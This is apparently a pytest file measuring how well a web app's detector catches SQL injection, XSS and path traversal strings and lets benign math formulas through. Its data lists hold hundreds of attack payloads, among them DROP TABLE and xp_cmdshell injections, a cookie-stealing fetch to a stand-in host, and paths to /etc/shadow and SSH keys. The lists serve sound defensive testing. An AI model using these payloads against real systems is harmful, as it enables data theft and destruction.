"""Hand-written attack variants and benign formula texts that are in no corpus: a measure of
how the detectors generalise (``benchmarks/detector_recall.py`` prints the figures). They are
kept here, never in the detectors, and the detectors have no rule for any single one of them.
"""

from __future__ import annotations

import pytest

from reference_app.core.detect import scan_value

SQLI = [
    # boolean clauses in a numeric context, parenthesised and nested
    "1 OR (1 OR 1)--", "1 AND (SELECT TOP 10 USERNAME FROM USERS);", "2 or (2)=(2)",
    "1) OR (1=1", "1)) or ((1=1", "-5 OR 5>4", "10 || 1=1", "1 AND 2>1 --",
    "0 OR NOT 0", "1 or 'a'='a'", "1 XOR 1", "99 and 1 between 0 and 2",
    # literal contexts: a quote closes the app's literal
    "1'--sp_password", "x' OR 'y' LIKE 'y", "abc\" or \"1\"=\"1", "a') or ('a'='a",
    "zz' || 'x'='x", "q' and 'q'='q' --", "admin' #", "foo'/*", "test');--",
    "' HAVING 1=1 --", "'; shutdown --", "x' AND 1=(SELECT COUNT(*) FROM tab)--",
    "name' order by 3#", "k' group by col having 1=1--", "\" or \"\"=\"",
    # UNION and stacked statements
    "1%00UNION%00SELECT%002--", "-1 UNION SELECT 1,2,3--", "0 union all select null,null",
    "1 UNION/**/SELECT/**/user,pass/**/FROM/**/accounts", "1;select 1",
    "1; update users set role='admin'", "5; insert into log values(1)",
    "x'; delete from carts where 1=1 --", "1 UNION(SELECT(1))",
    # clause injection
    "ORDER BY 1--", "1 ORDER BY 5", "GROUP BY x HAVING 1=1", "id desc limit 1 offset 2--",
    "1 limit 1 into @a", "price) desc--",
    # functions, time and error based
    "1 AND SLEEP(3)", "1 and benchmark(100000,md5(1))",
    "' and extractvalue(1,concat(0x7e,version()))--",
    "1 AND 1=CONVERT(int,@@version)", "1 and ascii(substring(user(),1,1))>64",
    "1 AND 5=(SELECT 5 FROM pg_sleep(2))", "1' and updatexml(1,concat(0x3a,user()),1)#",
    "(SELECT 1 FROM dual WHERE 1=1)", "1 OR ROW(1,1)>(SELECT COUNT(*),1)",
    "1 AND (SELECT SUBSTR(table_name,1,1) FROM information_schema.tables LIMIT 1)='a'",
    "; exec xp_cmdshell('whoami')--", "1;DECLARE @q varchar(99);EXEC(@q)",
    "1 rlike (select 1)", "1 and if(1=1,sleep(1),0)", "1 OR char(65)=char(65)",
    "1 AND @@version LIKE '%5%'", "1 || pg_sleep(1)", "randomblob(1000000000)",
    # obfuscation: comments, case, encodings, odd spacing
    "1/**/OR/**/1=1", "1 oR 1=1", "1%20OR%201=1", "1%2520OR%25201%253D1",
    "1+or+1=1", "1\tOR\n1=1", "'%09or%091=1--", "1 /*!OR*/ 1=1", "1 OR 0x31=0x31",
    "1 OR 1 IN (1)", "1 or true", "1' or true--", "-1' or 1=1 limit 1;--",
    "1 AND 'x' NOT LIKE 'y'", "' OR ''='", "a'||'", "1 OR 2-1=1", "' or 1 --+",
    "1 or @a:=1", "1' procedure analyse()#", "' UNION SELECT @@datadir --",
    "1 and 1=1 union select * from users", "1 AND EXISTS(SELECT * FROM users)",
]  # fmt: skip

XSS = [
    "<script>alert(1)</script>", "<ScRiPt src=//e.example/x.js></sCrIpT>",
    "<img src=1 onerror=prompt(1)>", "<body onload=init()>", "<svg><animate onbegin=x>",
    "<iframe srcdoc=\"&lt;script&gt;x&lt;/script&gt;\">", "<a href=\"jav&#x09;ascript:x\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<embed src=javascript:x>",
    "<math><maction actiontype=statusline xlink:href=javascript:x>",
    "<div style=\"x:expression(y)\">",
    "<input autofocus onfocus=x>", "<details open ontoggle=x>", "<video><source onerror=x>",
    "<marquee onstart=x>", "\"><script>x</script>", "'><img src=x onerror=x>",
    "<x onclick=y>click", "<form action=javascript:x><button>", "<base href=//evil.example/>",
    "<link rel=import href=//e.example>",
    "<meta http-equiv=refresh content=\"0;url=javascript:x\">",
    "%3Cscript%3Ex%3C/script%3E", "&#60;script&#62;x&#60;/script&#62;", "<svg/onload=x>",
    "<img src=x:x onerror\n=x>", "<style>@import 'x';</style>", "<a href=vbscript:x>",
    "<iframe src=\"data:text/html,<script>x</script>\">", "<custom-el onpointerover=x>",
    "<table background=javascript:x>", "<isindex action=javascript:x>", "\" autofocus onfocus=\"x",
]  # fmt: skip

TRAVERSAL = [
    "../../../../etc/shadow", "..%2f..%2f..%2fboot.ini", "..%252f..%252fwindows/win.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts", "..%c0%af..%c0%afetc", "..%u2216..%u2216x",
    "....//....//....//srv", "..\\..\\..\\inetpub\\wwwroot", "/var/log/auth.log",
    "file:///etc/passwd", "C:\\boot.ini", "\\\\server\\share\\..\\..\\x",
    "%2e%2e/%2e%2e/%2e%2e/home", ".%2e/.%2e/.%2e/config", "/proc/self/cmdline",
    "/home/user/.ssh/id_rsa", "..;/..;/admin", "images/../../../../etc/group",
    "%5c..%5c..%5cwindows%5csystem.ini", "/root/.bash_history",
]  # fmt: skip

VARIANTS = {"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL}

# text a formulas API receives every day: apostrophes, quotes, operators, dashes, prose
BENIGN_FORMULAS = [
    "f'(x) = 2x", "a<b && b>c", "select the best model", "O'Brien's law", "x -- y",
    "f''(x) < 0 means concave", "d/dx (x^2) = 2x", "p -> q or not p", "(a or b) and c",
    "1 - (1 - p)^n", "Newton's 2nd law", "it's 1 or 2", "a = b or c = d", "n! / (k!(n-k)!)",
    "x' = x cos t - y sin t", "if x > 0 then y = 1 else y = 0", "order by size, then name",
    "group by region", "union of A and B", "Select a value from the list", "drop rate 5%",
    "from 1 to 10", "where x = 3", "P(A|B) = P(B|A) P(A) / P(B)", "log(x*y) = log x + log y",
    "Ohm's law: V = I * R", "Euler's identity e^(i pi) + 1 = 0", "\"exact\" quotes",
    "--verbose", "#1 rule", "a;b;c", "user@example.org", "50/50 chance", "x<y",
    "3 < 4 > 2", "<= and >=", "the value 1=1 is trivially true", "1 and 1 make 2",
    "sin(x)^2 + cos(x)^2 = 1", "max(a, b) - min(a, b)", "sqrt(x^2 + y^2)", "E[X] = sum x p(x)",
    "Bayes' rule", "Snell's law: n1 sin(t1) = n2 sin(t2)", "2 > 1 or 1 > 2", "x -- comment",
    "Hooke's law F = -kx", "if (a && b) || c", "mean / std", "version 2.0 (beta)",
    "see the README for details", "a/b/c", "path: docs/intro.md", "C:/data is a drive",
    "x'' + x = 0", "y = mx + b", "count(*) of rows", "A union B", "delete key",
    "The Drop-Table Paradox", "O'Reilly & Sons", "rock 'n' roll", "1st and 2nd",
]  # fmt: skip


# Written after the detectors' rules and measured once, never tuned on: the clean measure of
# how they generalise beyond the corpora and the lists above.
HELD_OUT = {
    "sqli": [
        "7 OR 8=8", "7) OR (8=8)--", "'OR 3>2--", "\" OR 3>2 #",
        "abc' AND substr(version(),1,1)='8",
        "42 AND (SELECT 42 FROM dual)=42", "99999 UNION SELECT table_name,2 FROM all_tables--",
        "zz'); DROP TABLE logs; --", "1 AND IF(ASCII(SUBSTRING(DATABASE(),1,1))=115,SLEEP(2),0)",
        "-3 OR EXISTS(SELECT 1 FROM accounts)", "5 ORDER BY 12 DESC--",
        "'; UPDATE accounts SET balance=0 WHERE '1'='1",
        "1 AND UPDATEXML(NULL,CONCAT(0x2e,USER()),NULL)", "\"; EXEC sp_executesql N'SELECT 1'--",
        "2' UNION ALL SELECT NULL,NULL,NULL-- -", "me@x.com' OR 1=1 LIMIT 1 -- ",
        "1 OR 1=1 INTO OUTFILE '/tmp/o'", "0' XOR SLEEP(3) XOR '0", "1 AND 3=3 ORDER BY 1",
        "10; SELECT pg_sleep(3)--",
        "' OR EXISTS(SELECT * FROM users WHERE name='admin' AND pass LIKE 'a%')--",
        "1' AND (SELECT COUNT(*) FROM information_schema.columns)>1 AND '1'='1",
        "-9 UNION SELECT @@hostname", "8 AND CHAR(65)=CHAR(65)", "x%27%20OR%20%27z%27%3D%27z",
        "1%2F%2A%2A%2FOR%2F%2A%2A%2F1%3D1", "' oR 'q'='q'--", "1 || 'a'='a'", "')) OR 1=1 #",
        "\" ) OR ( \"x\"=\"x", "4 GROUP BY 1,2 HAVING 3>1--", "1 HAVING 2>1 --",
        "100 LIMIT 0,1 UNION SELECT 1--", "1' AND ROW(1,1)>(SELECT COUNT(*),1 FROM t)#",
        "1 AND 2 BETWEEN 1 AND 3--", "1 OR 'a' IS NOT NULL", "''; SHUTDOWN WITH NOWAIT;--",
        "1 WAITFOR TIME '23:59'", "admin'/**/OR/**/1=1#", "5 AND 0x61=0x61",
    ],
    "xss": [
        "<sCrIpT>fetch('//e.example/'+document.cookie)</sCrIpT>",
        "<img/src/onerror=top['al'+'ert'](1)>", "<svg><g onload=x></g></svg>",
        "<a href=\"JaVaScRiPt:void(0)\">x</a>", "<iframe/src=\"javascript:x\">",
        "<object data=//e.example/x.swf>", "<body onresize=x>", "<input onblur=x autofocus>",
        "\"><svg onload=x>", "'><details ontoggle=x open>", "<p onmouseenter=x>hi</p>",
        "<form action=\"javascript:x\"><input type=submit>", "<img src=\"x\" onerror=\"x\"/>",
        "%253Cscript%253Ex%253C%252Fscript%253E", "&lt;img src=x onerror=x&gt;",
        "<style>body{background:url(javascript:x)}</style>",
        "<link rel=stylesheet href=data:text/css,x>",
        "<meta http-equiv=\"refresh\" content=\"0; url=//e.example\">",
        "<embed type=image/svg+xml src=//e.example/x.svg>", "<frameset onload=x>",
    ],
    "traversal": [
        "../../../../../../etc/issue", "..%5c..%5c..%5cboot.ini", "%2e%2e%5c%2e%2e%5cwin.ini",
        "....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts", "/etc/./passwd",
        "%252e%252e%252f%252e%252e%252fetc%252fgroup", "..%c1%9c..%c1%9cwindows", "/proc/1/environ",
        "file:///c:/windows/win.ini", "static/..%2f..%2f..%2fapp.py",
    ],
}  # fmt: skip
HELD_OUT_BENIGN = [
    "d/dt sin(t) = cos(t)", "f''(x) > 0 on (a, b)", "x_{n+1} = x_n - f(x_n)/f'(x_n)",
    "A and B are independent iff P(A and B) = P(A)P(B)", "\"best fit\" line: y = 0.5x + 2",
    "Kepler's third law: T^2 ~ a^3", "Planck's constant h = 6.626e-34 J s",
    "speed of light c = 299792458 m/s", "Let's select the order of the model by BIC",
    "Use a union-find structure for groups", "The limit of 1/n as n -> infinity is 0",
    "delete the outliers where z > 3", "Drop rows with missing values", "insert 2 into the heap",
    "a = b -- by definition", "i -- the imaginary unit", "C -- the speed of light",
    "#define PI 3.14159", "p = 0.05 or less", "n >= 30 or the data is normal",
    "x = 'a' or x = 'b'", "the user's 'favourite' formula", "it's between 0 and 1",
    "null hypothesis: mu = 0", "order of operations: ( ) ^ * / + -",
    "group by group, the sums are equal", "the 'true' value vs the \"measured\" value",
    "x' denotes the derivative", "Jensen's inequality f(E[X]) <= E[f(X)]", "O(n log n) sorting",
]  # fmt: skip


def _kind(text: str) -> str | None:
    finding = scan_value(text, "query", plus_is_space=False)
    return finding.kind if finding else None


@pytest.mark.parametrize("cls", sorted(VARIANTS))
def test_hand_written_variants_are_mostly_caught(cls: str) -> None:
    texts = VARIANTS[cls] + HELD_OUT[cls]
    missed = [text for text in texts if _kind(text) is None]
    # held out: the figure is the measure, a miss is not a defect to patch with a special rule
    assert len(missed) <= 0.05 * len(texts), (cls, missed)


def test_benign_formula_texts_pass() -> None:
    texts = BENIGN_FORMULAS + HELD_OUT_BENIGN
    rejected = [t for t in texts if scan_value(t, "body-json", plus_is_space=False)]
    assert len(rejected) <= 0.01 * len(texts), rejected


@pytest.mark.parametrize(
    "text",
    ["1 OR (1 OR 1)--", "1 AND (SELECT TOP 10 USERNAME FROM USERS);", "1'--sp_password",
     "1%00UNION%00SELECT%002--", "ORDER BY 1--", "GROUP BY x HAVING 1=1"],
)  # fmt: skip
def test_plain_attacks_of_the_issue_are_caught(text: str) -> None:
    assert _kind(text) == "sqli", text
